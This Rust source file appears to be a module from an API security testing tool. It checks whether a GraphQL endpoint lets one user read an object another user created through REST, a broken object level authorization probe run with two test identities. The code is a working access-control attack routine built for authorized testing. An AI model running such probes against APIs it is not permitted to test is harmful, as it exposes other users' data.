//! Somebody else's object by another way in.

use http::Method;
use serde_json::json;

use super::Probing;
use super::bola_created::{Created, create};
use crate::client::{ClientError, Probe};
use crate::report::Outcome;

attack!("bola-graphql", ObjectOwnership, Code, "REST checks whose it is; does GraphQL?", run);

async fn run(p: Probing<'_>) -> Result<Outcome, ClientError> {
    let (Some(victim), Some(attacker)) = (p.victim(), p.attacker()) else {
        return Ok(Outcome::not_applicable("needs two identities"));
    };
    let Some(endpoint) = p.surface.graphql() else { return Ok(Outcome::not_applicable("there is no GraphQL")) };
    let mut last = None;
    for (_, collection) in p.surface.objects() {
        // `/api/orders` holds what `order(id:)` answers with.
        let Some(field) = collection.rsplit('/').next().and_then(|name| name.strip_suffix('s')) else { continue };
        let Some(Created { id, .. }) = create(p, collection, victim).await? else { continue };
        let own = json!({ "query": format!("query($id: ID!) {{ stolen: {field}(id: $id) {{ id }} }}"), "variables": { "id": id } });
        let probe = Probe::json(Method::POST, &endpoint.path, &own);
        let (theirs, exchange) = p.send(&probe.by(attacker)).await?;
        let stolen = theirs.json().and_then(|answer| answer.pointer("/data/stolen/id").cloned());
        if stolen.is_some_and(|found| found.to_string().trim_matches('"') == id) {
            let summary = format!("{} reads {field} {id}, which {} created", attacker.name, victim.name);
            return Ok(Outcome::exploited(summary, vec![exchange]));
        }
        last = Some(exchange);
    }
    Ok(match last {
        Some(exchange) => Outcome::blocked("the foreign id brought nothing", vec![exchange]),
        None => Outcome::not_applicable("nothing can be created and asked for by GraphQL"),
    })
}
